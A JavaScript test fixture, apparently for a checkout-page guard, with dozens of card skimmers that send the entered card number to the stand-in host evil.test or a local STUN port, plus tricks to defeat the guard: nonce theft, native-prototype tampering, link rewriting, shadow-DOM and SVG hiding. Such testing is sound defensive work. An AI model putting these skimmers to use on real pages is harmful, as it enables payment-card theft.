// Inert skimmers of our own: what stolen code on a paying page would do with a card number, one for each way out of a page. They send an
// invented marker to a sink on this machine. The page names those to run; they run when the buyer presses the button, as a click would be abused.
"use strict";
(() => {
  const nonce = document.currentScript.nonce;
  const { https } = document.currentScript.dataset;
  // Each with a port for STUN of its own.
  const wanted = new Map(document.currentScript.dataset.run.split(",").map((word) => word.split(":")));
  let run = "";
  let stun = "";
  const element = (name, attributes, parent = document.body) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    if (parent) parent.append(made);
    return made;
  };
  // Real ones ask a name server for a name with the card in it; here the port says whose message it is.
  const call = (Peer, port) => {
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const frame = () => element("iframe", {}).contentWindow;
  const at = (card, scheme = "https") => `${scheme}://${run}.evil.test:${https}/${run}?card=${card}`;
  /** A page that the policy goes along to, and the guard does not. */
  const blob = (card) => URL.createObjectURL(new Blob([`<meta http-equiv="refresh" content="0;url=${at(card)}">`], { type: "text/html" }));
  // Browsers ask only hosts of known registries whether they let a page use their passkeys: a provider's is the attacker's machine here.
  const named = (card) => `${card}.${run}.stripe.com`;
  /** An element that calls out once it is in the page, and whose callback nobody can change. */
  const sly = (name) => {
    const port = stun;
    const get = () => () => call(window[window.length - 1].RTCPeerConnection, port);
    class Sly extends HTMLElement {}
    Object.defineProperty(Sly.prototype, "connectedCallback", { get, set() {} });
    customElements.define(name, Sly);
    return name;
  };
  const place = () => document.querySelector("#place");
  const own = (text) => {
    const made = document.createElement("script");
    made.nonce = nonce;
    made.textContent = text;
    return made;
  };

  // The twenty-three of reference/payments.md 4.3.
  const ways = {
    fetch: (card) => fetch(at(card), { method: "POST", mode: "no-cors", body: card }),
    xhr(card) {
      const request = new XMLHttpRequest();
      request.open("POST", at(card));
      request.send(card);
    },
    beacon: (card) => navigator.sendBeacon(at(card), card),
    websocket: (card) => new WebSocket(at(card, "wss")),
    eventsource: (card) => new EventSource(at(card)),
    image: (card) => { new Image().src = at(card); },
    css: (card) => { document.body.style.backgroundImage = `url("${at(card)}")`; },
    stylesheet: (card) => element("link", { rel: "stylesheet", href: at(card) }),
    font(card) {
      const font = new FontFace("f", `url("${at(card)}")`);
      document.fonts.add(font);
      return font.load();
    },
    script: (card) => element("script", { src: at(card) }),
    media: (card) => { new Audio(at(card)).load(); },
    object: (card) => element("object", { data: at(card), type: "image/png" }),
    frame: (card) => element("iframe", { src: at(card) }),
    form(card) {
      const form = element("form", { method: "POST", action: at(card) });
      element("input", { name: "card", value: card }, form);
      form.submit();
    },
    prefetch: (card) => element("link", { rel: "prefetch", href: at(card) }, document.head),
    ping: (card) => element("a", { href: "#pinged", ping: at(card) }).click(),
    location: (card) => { location = at(card); },
    "window-open": (card) => window.open(at(card)),
    preconnect: (card) => element("link", { rel: "preconnect", href: `https://${card}.preconnect.evil.test:${https}` }, document.head),
    "meta-refresh": (card) => element("meta", { "http-equiv": "refresh", content: `0; url=${at(card)}` }, document.head),
    webrtc: () => call(RTCPeerConnection, stun),
    "webrtc-in-a-frame": () => call(frame().RTCPeerConnection, stun),
    "same-origin": (card) => fetch("/checkout/note", { method: "POST", body: card }),
  };

  // Ways around a guard that is a script like any other.
  const tricks = {
    "open-of-a-frame": (card) => frame().open(at(card)),
    "open-by-document": (card) => document.open(at(card), "_blank", "popup"),
    "open-put-back"(card) {
      const { open } = Object.getOwnPropertyDescriptors(window);
      try { Object.defineProperty(window, "open", { ...open, configurable: true }); } catch { /* fixed */ }
      window.open(at(card));
    },
    "open-by-descriptor": (card) => Reflect.apply(Object.getOwnPropertyDescriptor(window, "open").value ?? window.open, window, [at(card)]),
    "own-window-lent": () => call(window.open("/blank").RTCPeerConnection, stun),
    "link-by-hand"(card) {
      const link = element("a", { href: at(card), target: "_blank" }, null);
      link.click();
    },
    "link-by-event"(card) {
      const link = element("a", { href: at(card), target: "_blank" }, null);
      const inner = element("b", {}, link);
      inner.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    },
    "link-in-a-picture"(card) {
      const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
      link.setAttribute("href", at(card));
      link.setAttribute("target", "_blank");
      link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    },
    "link-in-the-page": (card) => element("a", { href: at(card), target: "_blank" }).click(),
    "blob-opened": (card) => window.open(blob(card)),
    "blob-linked": (card) => element("a", { href: blob(card), target: "_blank" }).click(),
    "blob-gone-to"(card) {
      location = blob(card);
    },
    "link-with-an-argument": (card) => element("a", { href: at(card), target: "_blank" }, null).click(1),
    "link-rewritten-by-hand"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      link.addEventListener("click", (event) => {
        event.stopImmediatePropagation();
        link.href = url;
      });
      link.click();
    },
    "link-rewritten-by-event"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" }, null)];
      link.onclick = () => { link.href = url; };
      link.dispatchEvent(new MouseEvent("click"));
    },
    "link-rewritten-the-second-time"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      const event = new MouseEvent("click", { bubbles: true, cancelable: true });
      link.addEventListener("click", () => event.preventDefault(), { once: true });
      link.dispatchEvent(event);
      link.addEventListener("click", () => { link.href = url; });
      event.initEvent("click", true, true);
      link.dispatchEvent(event);
    },
    "link-rewritten-by-a-label"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      element("button", { id: "labelled", type: "button" }, link).addEventListener("click", () => { link.href = url; });
      element("label", { for: "labelled" }).click();
    },
    "passkey-of-another": (card) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: named(card) } }),
    "passkey-for-another": (card) => navigator.credentials.create({
      publicKey: {
        challenge: new Uint8Array(16), rp: { id: named(card), name: "x" }, user: { id: new Uint8Array(4), name: "x", displayName: "x" },
        pubKeyCredParams: [{ type: "public-key", alg: -7 }],
      },
    }),
    "passkey-told-of": (card) => PublicKeyCredential.signalUnknownCredential({ rpId: named(card), credentialId: "AAAA" }),
    "frame-in-a-range"() {
      const both = document.createDocumentFragment();
      both.append(document.createElement("iframe"), document.createElement(sly("x-range")));
      const range = document.createRange();
      range.selectNodeContents(element("div", {}));
      range.insertNode(both);
    },
    "frame-in-a-range-around"() {
      const range = document.createRange();
      const place = element("div", {});
      element("iframe", {}, element("p", {}, place));
      range.selectNodeContents(place);
      range.surroundContents(document.createElement(sly("x-around")));
    },
    "frame-while-it-loads"() {
      const port = stun;
      const made = document.createElement("iframe");
      made.addEventListener("load", () => call(window[length - 1].RTCPeerConnection, port));
      document.body.append(made);
    },
    "frame-beside-a-script"() {
      const both = document.createDocumentFragment();
      window.skim = (peer) => call(peer, stun);
      both.append(document.createElement("iframe"), own("skim(window[length - 1].RTCPeerConnection)"));
      document.body.append(both);
    },
    "frame-by-text"() {
      const place = element("div", {});
      place.innerHTML = "<iframe></iframe>";
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-in-a-shadow"() {
      const port = stun;
      const root = element("div", {}).attachShadow({ mode: "closed" });
      const made = document.createElement("iframe");
      made.addEventListener("load", () => call(window[length - 1].RTCPeerConnection, port));
      root.append(made);
    },
    "frame-in-an-element"() {
      customElements.define("x-y", class extends HTMLElement {
        connectedCallback() { call(window[length - 1].RTCPeerConnection, stun); }
      });
      element("div", {}).innerHTML = "<iframe></iframe><x-y></x-y>";
    },
    "frame-in-a-caption"() {
      const table = element("table", {});
      const caption = document.createElement("caption");
      caption.append(document.createElement("iframe"));
      table.caption = caption;
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-by-a-frame"() {
      const child = frame();
      const made = document.createElement("iframe");
      child.Node.prototype.appendChild.call(document.body, made);
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-written-with-a-script"() {
      window.skim = (peer) => call(peer, stun);
      document.write(`<iframe></iframe><script nonce="${nonce}">skim(window[length - 1].RTCPeerConnection)<\/script>`);
    },
    "frame-written-with-an-element"() {
      const port = stun;
      let isFirst = true;
      customElements.define("x-z", class extends HTMLElement {
        constructor() {
          super();
          if (isFirst) call(window[window.length - 1].RTCPeerConnection, port);
          isFirst = false;
        }
      });
      document.write("<iframe></iframe><x-z></x-z>");
    },
    "frame-with-a-page"(card) {
      const page = `<script nonce="${nonce}">top.location = "${at(card)}"<\/script>`;
      element("iframe", { sandbox: "allow-scripts allow-top-navigation", srcdoc: page });
    },
    "natives-changed"(card) {
      const lie = () => location.origin;
      for (const [owner, name] of [[URL.prototype, "origin"], [NavigationDestination.prototype, "url"], [NavigateEvent.prototype, "destination"]]) {
        Object.defineProperty(owner, name, { get: lie });
      }
      Event.prototype.preventDefault = () => {};
      Function.prototype.call = Function.prototype.apply = Reflect.apply = () => undefined;
      Array.prototype[Symbol.iterator] = function* () {};
      WeakSet.prototype.has = () => true;
      String.prototype.lastIndexOf = () => 0;
      Object.prototype.get = lie;
      location = at(card);
    },
    "nonce-taken"(card) {
      const made = document.createElement("script");
      made.nonce = document.querySelector("script[src]").nonce;
      made.src = at(card);
      document.body.append(made);
    },
    "nonce-of-the-policy"(card) {
      const url = at(card);
      document.addEventListener("securitypolicyviolation", (event) => {
        const made = document.createElement("script");
        made.nonce = /'nonce-([^']+)'/.exec(event.originalPolicy)?.[1] ?? "";
        made.src = url;
        document.body.append(made);
      }, { once: true });
      element("script", { src: "https://nobody.evil.test/" });
    },
    "worker-of-text"(card) {
      new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at(card))}, { mode: "no-cors" })`])));
    },
  };

  const later = (card) => {
    const link = element("a", { href: "/blank", target: "_blank" }, place());
    link.textContent = "Continue to pay";
    return [link, at(card)];
  };
  const shadowed = (card, mode, child) => {
    const link = element("a", { href: at(card), target: "_blank" }, place().attachShadow({ mode }));
    link.append(child);
  };
  const drawing = (text) => {
    place().innerHTML = `<svg width="300" height="60">${text.replace("<w/>", '<text y="40" font-size="40">Continue to pay</text>')}</svg>`;
    return document.querySelector("#place svg");
  };
  // Links that wait for a person.
  const links = {
    "link-put-in-at-the-click"(card) {
      const [link, url] = later(card);
      link.addEventListener("click", () => { link.href = url; });
    },
    "link-put-in-behind-the-click"(card) {
      const [link, url] = later(card);
      link.removeAttribute("href");
      window.addEventListener("click", (event) => {
        event.stopImmediatePropagation();
        Promise.resolve().then(() => {}).then(() => { link.href = url; });
      }, true);
    },
    "link-in-a-closed-tree": (card) => shadowed(card, "closed", "Continue to pay"),
    "link-around-a-slot"(card) {
      place().textContent = "Continue to pay";
      shadowed(card, "closed", document.createElement("slot"));
    },
    "link-in-a-written-tree"(card) {
      const link = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
      place().setHTMLUnsafe(`<div><template SHADOWROOTMODE="&#99;losed">${link}</template></div>`);
    },
    "link-in-a-frame"(card) {
      const made = element("iframe", { height: "60" }, place());
      made.contentDocument.body.innerHTML = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
    },
    "link-of-a-picture"(card) {
      const url = at(card);
      const link = drawing('<a target="_blank" xlink:href="/blank"><w/></a>').firstChild;
      link.addEventListener("click", () => link.setAttributeNS("http://www.w3.org/1999/xlink", "href", url));
    },
    "link-in-motion": (card) => drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}"/><w/></a>`),
    "link-put-in-motion"(card) {
      const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}" begin="indefinite"/><w/></a>`);
      picture.firstChild.addEventListener("click", () => {
        picture.querySelector("set").beginElement();
        picture.setCurrentTime(picture.getCurrentTime() + 1);
      });
    },
    "link-used": (card) => drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g></defs><use href="#used"/>`),
  };

  const go = { ...ways, ...tricks, ...links };
  window.skimmers = { ways: Object.keys(ways), tricks: Object.keys(tricks), links: Object.keys(links) };
  if (!wanted.has("")) {
    document.querySelector("#pay").addEventListener("click", (event) => {
      event.preventDefault();
      const card = document.querySelector("#card").value;
      for (const [name, port] of wanted) {
        [run, stun] = [name, port];
        try {
          // What refuses is asked no further: stolen code keeps quiet.
          const done = go[name](card);
          if (done instanceof Promise) done.catch(() => {});
        } catch { /* refused */ }
      }
      document.documentElement.dataset.ran = "yes";
    });
  }
})();
